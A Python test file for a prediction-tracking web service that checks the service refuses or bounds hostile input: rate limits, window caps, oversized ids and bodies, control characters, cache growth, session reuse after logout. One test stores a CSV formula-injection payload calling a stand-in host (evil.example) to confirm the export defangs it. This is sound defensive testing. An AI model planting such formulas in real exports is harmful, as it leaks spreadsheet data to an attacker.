"""Hostile input, third probe (issue 19): each attack of the probe, answered with a clear 4xx and bounded work.

Each test runs on SQLite and, with PREDTRACK_TEST_DATABASE_URL, on PostgreSQL (the ``client`` fixture); the
attacks that need a real server are in ``test_hostile_loopback``.
"""

from __future__ import annotations

import json
import re
import tracemalloc
from datetime import date, timedelta
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session, func, select

from forecasts.rules import Aggregate, Op
from predictions.ledger.clock import FixedClock
from predictions.ledger.tables import Claim, ClaimIndicator, Indicator, ProbabilitySnapshot
from predictions.rescore import rescore_claim
from service.api.app import create_app
from service.api.deps import get_session
from service.settings import Settings
from tests.factories import add_observations, link_rule, make_claim, make_indicator
from tests.service.test_hostile_input import refused

API = "/api/v1"
CLAIM = {
    "statement": "Daily value above 9 by the end of 2026",
    "quote": "it will pass 9",
    "author": "Some Analyst",
    "made_on": "2026-11-01",
    "deadline": "2026-12-31",
    "resolution_criteria": "the daily series > 9",
}


def limited_client(engine: Any, session: Session, clock: FixedClock, **settings: Any) -> TestClient:
    app = create_app(engine=engine, settings=Settings(database_url="sqlite://", **settings), clock=clock)

    def _session() -> Any:
        yield session
        session.flush()

    app.dependency_overrides[get_session] = _session
    return TestClient(app)


def _daily_claim(session: Session, *, window_start: str | None = None) -> Claim:
    """A claim over a daily series of 300 values (2026-01-01..2026-10-27) whose window runs to 2026-12-31."""
    indicator = make_indicator(session, key="daily_probe", frequency="D")  # type: ignore[arg-type]
    add_observations(session, indicator=indicator, start="2026-01-01", values=[1.0 + i % 7 for i in range(300)])
    claim = make_claim(session, made_on=date(2026, 1, 1), deadline=date(2026, 12, 31))
    link_rule(
        session,
        claim=claim,
        indicator=indicator,
        op=Op.GT,
        threshold=9.0,
        aggregate=Aggregate.ANY,
        window_start=window_start,
        window_end="2026-12-31",
    )
    return claim


# --- High 1: verify is a costly read, and cached by the snapshot's inputs -------------------------------------


def test_anonymous_verify_is_rate_limited_and_answered_from_the_cache(
    engine: Any, session: Session, clock: FixedClock, researcher_headers: dict[str, str]
) -> None:
    claim = _daily_claim(session)
    rescore_claim(session, claim_id=claim.id, clock=clock, reason="t", n_paths=200)  # type: ignore[arg-type]
    snapshot_id = session.exec(select(ProbabilitySnapshot.id).where(ProbabilitySnapshot.claim_id == claim.id)).one()
    with limited_client(engine, session, clock, rate_limit_burst=3, rate_limit_per_minute=6) as client:
        cache = client.app.state.recompute_cache  # type: ignore[attr-defined]
        url = f"{API}/snapshots/{snapshot_id}/verify"
        answers = [client.get(url) for _ in range(3)]
        assert [a.status_code for a in answers] == [200, 200, 200]
        assert all(a.json()["identical"] for a in answers)
        assert cache.computed == 1  # the second and third answers came from the cache
        limited = client.get(url)
        refused(limited, 429, "retry in")
        assert int(limited.headers["Retry-After"]) == 10  # 6 a minute: one token every 10 s
        assert client.get(url, headers=researcher_headers).status_code == 200  # a key is not limited
        assert cache.computed == 1
        assert (
            "429"
            in client.get("/openapi.json").json()["paths"][f"{API}/snapshots/{{snapshot_id}}/verify"]["get"][
                "responses"
            ]
        )


# --- High 2: a window's near end and length are capped ---------------------------------------------------------


@pytest.mark.parametrize(
    ("window", "needle"),
    [
        ({"window_start": "1900-01-01"}, "more than 100 years before"),
        ({"window_start": "2010-01-01"}, "at most 3660 periods"),
    ],
)
def test_rule_window_past_the_near_cap_is_refused(
    client: TestClient,
    session: Session,
    researcher_headers: dict[str, str],
    window: dict[str, str],
    needle: str,
) -> None:
    make_indicator(session, key="daily_probe", frequency="D")  # type: ignore[arg-type]
    before = session.exec(select(func.count()).select_from(Claim)).one()
    rule = {"indicator": "daily_probe", "op": ">", "threshold": 9, "window_end": "2026-12-31", **window}
    refused(client.post(f"{API}/claims", json={**CLAIM, "rule": rule}, headers=researcher_headers), 400, needle)
    condition = {**CLAIM, "prior": 0.5, "condition": "the series is published", "condition_rule": rule}
    refused(client.post(f"{API}/claims", json=condition, headers=researcher_headers), 400, needle)
    assert session.exec(select(func.count()).select_from(Claim)).one() == before
    ok = {"indicator": "daily_probe", "op": ">", "threshold": 9, "window_start": "2018-01-01"}
    assert client.post(f"{API}/claims", json={**CLAIM, "rule": ok}, headers=researcher_headers).status_code == 201


def test_periods_before_the_series_cost_no_memory_and_stay_unknown(session: Session, clock: FixedClock) -> None:
    """A window stored from 2020 over a series that starts in 2026: its 2,192 first periods cannot be simulated.
    They are unknown (issue 18): a path with a value over 9 in the known part holds whatever they were; every
    other path rests on them and counts one half. Evaluating it allocates no paths-by-periods matrix for them
    (1,000 paths x 2,192 periods = 17.5 MB each)."""
    wide = _daily_claim(session, window_start="2020-01-01")
    narrow = make_claim(session, made_on=date(2026, 1, 1), deadline=date(2026, 12, 31))
    [rule] = session.exec(select(ClaimIndicator).where(ClaimIndicator.claim_id == wide.id)).all()
    link_rule(
        session,
        claim=narrow,
        indicator=session.get(Indicator, rule.indicator_id),  # type: ignore[arg-type]
        op=Op.GT,
        threshold=9.0,
        aggregate=Aggregate.ANY,
        window_start="2026-01-01",
        window_end="2026-12-31",
    )
    peaks, details = [], []
    for claim in (narrow, wide):
        tracemalloc.start()
        outcome = rescore_claim(session, claim_id=claim.id, clock=clock, reason="t", n_paths=1000)  # type: ignore[arg-type]
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
        details.append(session.get(ProbabilitySnapshot, outcome.snapshot_id).details)  # type: ignore[union-attr]
    holding = details[0]["k"]  # paths with a value over 9 in 2026: they hold in the wide window too
    assert details[1]["undetermined_paths"] == 1000 - holding
    assert details[1]["k"] == pytest.approx(holding + (1000 - holding) / 2)
    assert details[1]["unknown_periods"] == ["2020-01-01..2025-12-31 (2192 periods)"]
    assert peaks[1] - peaks[0] < 5_000_000, [p / 1e6 for p in peaks]


def test_a_stored_window_past_the_length_cap_is_scored_by_its_base_rate(session: Session, clock: FixedClock) -> None:
    claim = _daily_claim(session, window_start="1900-01-01")
    claim.prior = 0.3
    tracemalloc.start()
    outcome = rescore_claim(session, claim_id=claim.id, clock=clock, reason="t", n_paths=1000)  # type: ignore[arg-type]
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert outcome.method == "base_rate" and outcome.probability == pytest.approx(0.3, abs=0.01)
    assert peak < 30_000_000, f"{peak / 1e6:.0f} MB"


# --- Medium 5: dashboard ids and pages are bounded like the API's ------------------------------------------------

HUGE = "99999999999999999999"


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", f"/claims/{HUGE}"),
        ("GET", f"/claims/{2**63}"),
        ("GET", f"/sources/{HUGE}"),
        ("GET", "/?page=9223372036854775807"),
        ("GET", f"/?page={(2**63 - 1) // 50 + 1}"),
        ("POST", f"/claims/{HUGE}/resolve"),
        ("POST", f"/claims/{HUGE}/forecasts"),
        ("POST", f"/claims/{HUGE}/checks"),
    ],
)
def test_dashboard_ids_and_pages_past_int64_are_4xx(client: TestClient, method: str, path: str) -> None:
    response = client.request(
        method, path, data={"csrf_token": "x"} if method == "POST" else None, follow_redirects=False
    )
    assert response.status_code in (404, 422), response.text[:300]


def test_the_last_page_that_fits_is_an_empty_page(client: TestClient) -> None:
    assert client.get(f"/?page={(2**63 - 1) // 50}").status_code == 200


# --- Medium 6: values at the ends of the floats draw ------------------------------------------------------------


def test_pages_with_values_of_1e308_draw(
    client: TestClient, session: Session, researcher_headers: dict[str, str]
) -> None:
    make_indicator(session, key="extreme")
    observations = [
        {"period": f"2025-{m:02d}", "value": (-1) ** m * 1e308, "as_of": "2026-01-01"} for m in range(1, 13)
    ]
    posted = client.post(
        f"{API}/indicators/extreme/observations", json={"observations": observations}, headers=researcher_headers
    )
    assert posted.status_code == 200, posted.text
    rule = {"indicator": "extreme", "op": ">", "threshold": 1.797e308, "window_start": "2026-10"}
    created = client.post(f"{API}/claims", json={**CLAIM, "rule": rule}, headers=researcher_headers)
    assert created.status_code == 201, created.text
    rescored = client.post(f"{API}/claims/{created.json()['id']}/rescore", headers=researcher_headers)
    assert rescored.status_code in (200, 400), rescored.text  # 400: "every model failed" on such values
    for path in ("/indicators/extreme", f"/claims/{created.json()['id']}"):
        page = client.get(path)
        assert page.status_code == 200, page.text[:300]
        charts = re.findall(r"<svg.*?</svg>", page.text, flags=re.S)
        assert charts and not any("nan" in svg or "inf" in svg for svg in charts)


# --- Medium 7 and 8: forms validate through the API's models; text XML does not allow is refused at the door ---

NOT_XML = ["\uffff", "\ufffe", "\x1b", "\x00", "\x0b"]


def _forecasts_checks_resolutions(session: Session) -> tuple[int, ...]:
    from predictions.ledger.tables import ClaimCheck, HumanForecast, Resolution

    return tuple(
        session.exec(select(func.count()).select_from(table)).one() for table in (HumanForecast, ClaimCheck, Resolution)
    )


def test_dashboard_forms_refuse_what_the_api_refuses(
    client: TestClient, session: Session, researcher_headers: dict[str, str]
) -> None:
    from tests.service.test_dashboard_actions import _csrf, _sign_in

    created = client.post(f"{API}/claims", json={**CLAIM, "prior": 0.4}, headers=researcher_headers)
    claim_id = created.json()["id"]
    _sign_in(client, researcher_headers["Authorization"].removeprefix("Bearer "))
    before = _forecasts_checks_resolutions(session)
    attempts = [
        ("forecasts", {"probability": "0.3", "rationale": "x" * 20_000}, "forecast-rationale-error", "at most 5000"),
        ("forecasts", {"probability": "0.3", "rationale": "why\uffff"}, "forecast-rationale-error", "XML"),
        ("checks", {"checked_through": "2026-11-20", "note": "n" * 20_000}, "check-note-error", "at most 5000"),
        ("checks", {"checked_through": "2026-11-20", "note": "looked\x1b[31m"}, "check-note-error", "control"),
        ("resolve", {"outcome": "true", "evidence": "ruling\x00 of the court"}, "resolve-evidence-error", "control"),
        ("resolve", {"outcome": "true", "evidence": "e" * 10_001}, "resolve-evidence-error", "at most 10000"),
    ]
    for action, data, error_id, needle in attempts:
        token = _csrf(client, f"/claims/{claim_id}")
        page = client.post(f"/claims/{claim_id}/{action}", data={**data, "csrf_token": token})
        assert page.status_code == 200, page.text[:300]
        assert f'id="{error_id}"' in page.text and needle in page.text, (action, needle)
    assert _forecasts_checks_resolutions(session) == before
    token = _csrf(client, "/claims/new")
    form = {**CLAIM, "statement": "a statement\x07", "csrf_token": token}
    page = client.post("/claims/new", data=form)
    assert page.status_code == 200 and "control character" in page.text


@pytest.mark.parametrize("char", NOT_XML)
def test_text_xml_does_not_allow_is_422_in_every_stored_field(
    client: TestClient, session: Session, researcher_headers: dict[str, str], char: str
) -> None:
    before = session.exec(select(func.count()).select_from(Claim)).one()
    for field in ("statement", "quote", "author", "resolution_criteria", "interpretation"):
        response = client.post(f"{API}/claims", json={**CLAIM, field: f"text{char}"}, headers=researcher_headers)
        refused(response, 422, field)
    refused(client.post(f"{API}/sources", json={"title": f"t{char}"}, headers=researcher_headers), 422, "title")
    assert session.exec(select(func.count()).select_from(Claim)).one() == before


def test_the_changes_feed_stays_well_formed(
    client: TestClient, session: Session, clock: FixedClock, researcher_headers: dict[str, str]
) -> None:
    import xml.etree.ElementTree as ElementTree

    import feedparser

    created = client.post(f"{API}/claims", json={**CLAIM, "deadline": "2026-11-20"}, headers=researcher_headers)
    claim_id = created.json()["id"]
    for evidence in ("the court ruled\uffff", "\x1b[2J ruled"):
        bad = client.post(
            f"{API}/claims/{claim_id}/resolve",
            json={"outcome": "true", "evidence": evidence},
            headers=researcher_headers,
        )
        refused(bad, 422, "evidence")
    good = client.post(
        f"{API}/claims/{claim_id}/resolve",
        json={"outcome": "true", "evidence": "the court ruled <b>&</b> \u00e9t\u00e9 \U0001f600"},
        headers=researcher_headers,
    )
    assert good.status_code == 201, good.text
    clock.at += timedelta(hours=1)  # the feed lists what happened before now
    feed = client.get("/feeds/changes.atom")
    assert feed.status_code == 200
    root = ElementTree.fromstring(feed.content)  # raises on ill-formed XML
    assert root.tag.endswith("feed")
    parsed = feedparser.parse(feed.content)
    assert not parsed.bozo and len(parsed.entries) == 1


# --- Medium 9: the claims query cache remembers canonical queries only, within a byte budget ---------------------


def test_junk_query_parameters_are_not_remembered(client: TestClient) -> None:
    cache = client.app.state.read_cache  # type: ignore[attr-defined]
    junk = "j" * 6_000
    for i in range(50):
        assert client.get(f"{API}/claims", params={f"junk{i}": junk, "limit": 5}).status_code == 200
        assert client.get(f"{API}/claims", params=[("tag", "a"), ("tag", f"b{i}")]).status_code == 200
    assert client.get(f"{API}/claims", params={"status": "open", "limit": 5}).status_code == 200
    assert client.get(f"{API}/claims", params={"tag": "t" * 101}).status_code == 422
    assert list(cache._questions) == [(f"{API}/claims", b"status=open&limit=5")]


def test_remembered_requests_are_bounded_by_bytes(monkeypatch: pytest.MonkeyPatch) -> None:
    from service.api import read_cache

    monkeypatch.setattr(read_cache, "MAX_QUESTION_BYTES", 100_000)
    cache = read_cache.ReadCache()
    for i in range(1_000):
        cache.remember((f"{API}/claims", f"q={i:0>1000}".encode()), ("claims", i))
    assert cache._question_bytes <= 100_000 and len(cache._questions) == 100_000 // (len(API) + 7 + 1002)
    assert cache.question((f"{API}/claims", f"q={999:0>1000}".encode())) == ("claims", 999)


# --- Lows -------------------------------------------------------------------------------------------------------


def test_claims_csv_cells_that_start_a_formula_are_defanged(
    client: TestClient, researcher_headers: dict[str, str], admin_headers: dict[str, str]
) -> None:
    import csv
    import io

    hostile = {
        **CLAIM,
        "statement": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "quote": "+1 quoted",
        "author": "@author",
        "interpretation": "-2 means down",
        "resolution_criteria": "plain text stays as written",
    }
    assert client.post(f"{API}/claims", json=hostile, headers=researcher_headers).status_code == 201
    text = client.get(f"{API}/export/claims.csv", headers=admin_headers).text
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["statement"] == "'" + hostile["statement"]
    assert (row["quote"], row["author"]) == ("'+1 quoted", "'@author")
    assert row["interpretation"] == "'-2 means down"
    assert row["resolution_criteria"] == "plain text stays as written"


@pytest.mark.parametrize("path", ["/login", f"{API}/subscriptions", "/claims/1/forecasts", "/logout"])
def test_small_bodies_are_refused_by_length_before_they_are_read(app_under_test: Any, path: str) -> None:
    from tests.service.test_hostile_input import _call, _megabytes

    status, pulled = _call(
        app_under_test,
        method="POST",
        path=path,
        headers={"content-type": "application/x-www-form-urlencoded", "content-length": str(19_000_000)},
        chunks=_megabytes(19),
    )
    assert (status, pulled) == (413, 0)
    status, pulled = _call(  # no Content-Length: the guard stops pulling once past 256 KB
        app_under_test,
        method="POST",
        path=path,
        headers={"content-type": "application/x-www-form-urlencoded"},
        chunks=_megabytes(19),
    )
    assert status == 413 and pulled <= 1_000_000


@pytest.fixture
def app_under_test(client: TestClient) -> Any:
    return client.app


def test_signed_in_pages_are_no_store(client: TestClient, researcher_headers: dict[str, str]) -> None:
    from tests.service.test_dashboard_actions import _sign_in

    client.get("/")  # a first visit sets the CSRF cookie, and an answer that sets a cookie is never stored
    assert "no-store" not in client.get("/").headers.get("cache-control", "")  # an anonymous reader's page may be
    _sign_in(client, researcher_headers["Authorization"].removeprefix("Bearer "))
    for path in ("/", "/claims/new", "/track-record"):
        assert "no-store" in client.get(path).headers["cache-control"], path


def test_health_names_no_database_under_private_reads(engine: Any, session: Session, clock: FixedClock) -> None:
    with limited_client(engine, session, clock, private_reads=True) as client:
        assert client.get(f"{API}/health").json() == {"status": "ok"}
    with limited_client(engine, session, clock) as client:
        assert client.get(f"{API}/health").json()["database"] in ("sqlite", "postgresql")


def test_signing_out_ends_the_session_on_the_server(
    client: TestClient, clock: FixedClock, researcher_headers: dict[str, str]
) -> None:
    from tests.service.test_dashboard_actions import _csrf, _sign_in

    _sign_in(client, researcher_headers["Authorization"].removeprefix("Bearer "))
    stolen = client.cookies.get("predtrack_session")
    assert stolen and "signed in as" in client.get("/").text
    clock.at += timedelta(minutes=5)
    out = client.post("/logout", data={"csrf_token": _csrf(client, "/")}, follow_redirects=False)
    assert out.status_code == 303
    client.cookies.set("predtrack_session", stolen)  # a copy of the cookie, kept by someone else
    assert "signed in as" not in client.get("/").text
    assert client.get("/claims/new", follow_redirects=False).status_code == 303  # to the sign-in page
    clock.at += timedelta(seconds=2)
    client.cookies.clear()
    _sign_in(client, researcher_headers["Authorization"].removeprefix("Bearer "))  # signing in again works
    assert "signed in as" in client.get("/").text


def test_subscribing_does_the_same_work_before_answering_for_known_and_unknown_addresses(
    client: TestClient, engine: Any
) -> None:
    """Issue 19: an active address answered in 3.9 ms, an unknown one in 10.1 ms (an insert): the statements run
    before the answer starts are the same for both; what differs happens after it."""
    import asyncio

    import sqlalchemy as sa

    assert client.post(f"{API}/subscriptions", json={"email": "known@example.com"}).status_code == 202
    statements: list[str] = []

    def record(_conn: Any, _cursor: Any, statement: str, *_args: Any) -> None:
        statements.append(statement)

    def before_answer(address: str) -> list[str]:
        body = json.dumps({"email": address}).encode()
        seen: list[str] = []

        async def receive() -> dict[str, Any]:
            return {"type": "http.request", "body": body, "more_body": False}

        async def send(message: dict[str, Any]) -> None:
            if message["type"] == "http.response.start":
                assert message["status"] == 202
                seen.extend(statements)

        scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST",
                 "scheme": "http", "path": f"{API}/subscriptions", "raw_path": f"{API}/subscriptions".encode(),
                 "root_path": "", "query_string": b"", "client": ("127.0.0.1", 1234), "server": ("testserver", 80),
                 "headers": [(b"content-type", b"application/json"), (b"content-length", str(len(body)).encode())],
                 "app": client.app}  # fmt: skip
        statements.clear()
        asyncio.run(client.app(scope, receive, send))  # type: ignore[arg-type]
        assert len(statements) > len(seen)  # the subscription's own work ran after the answer
        return seen

    sa.event.listen(engine, "before_cursor_execute", record)
    try:
        known, unknown = before_answer("known@example.com"), before_answer("unknown@example.com")
    finally:
        sa.event.remove(engine, "before_cursor_execute", record)
    assert known == unknown


@pytest.mark.parametrize("path", [f"{API}/indicators/monthly/observations", "/login", f"{API}/sources"])
def test_a_client_that_goes_away_is_not_a_500(
    client: TestClient, researcher_headers: dict[str, str], caplog: pytest.LogCaptureFixture, path: str
) -> None:
    import asyncio

    statuses = []

    async def receive() -> dict[str, Any]:
        return {"type": "http.disconnect"}

    async def send(message: dict[str, Any]) -> None:
        if message["type"] == "http.response.start":
            statuses.append(message["status"])

    headers = [(k.lower().encode(), v.encode()) for k, v in researcher_headers.items()]
    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST", "scheme": "http",
             "path": path, "raw_path": path.encode(), "root_path": "", "query_string": b"",
             "client": ("127.0.0.1", 1234), "server": ("testserver", 80), "app": client.app,
             "headers": [*headers, (b"content-type", b"application/json"), (b"content-length", b"100")]}  # fmt: skip
    with caplog.at_level("INFO", logger="service.api.errors"):
        asyncio.run(client.app(scope, receive, send))  # type: ignore[arg-type]
    assert statuses and statuses[0] != 500, statuses
    assert not [r for r in caplog.records if r.levelname == "ERROR"], caplog.text


def test_the_dashboard_refuses_a_window_past_the_near_cap(
    client: TestClient, session: Session, researcher_headers: dict[str, str]
) -> None:
    from tests.service.test_dashboard_actions import _csrf, _sign_in

    make_indicator(session, key="daily_probe", frequency="D")  # type: ignore[arg-type]
    before = session.exec(select(func.count()).select_from(Claim)).one()
    _sign_in(client, researcher_headers["Authorization"].removeprefix("Bearer "))
    form = {**CLAIM, "rule_indicator": "daily_probe", "rule_op": ">", "rule_threshold": "9",
            "rule_window_start": "1900-01-01", "csrf_token": _csrf(client, "/claims/new")}  # fmt: skip
    page = client.post("/claims/new", data=form)
    assert page.status_code == 200 and "more than 100 years before" in page.text
    assert session.exec(select(func.count()).select_from(Claim)).one() == before
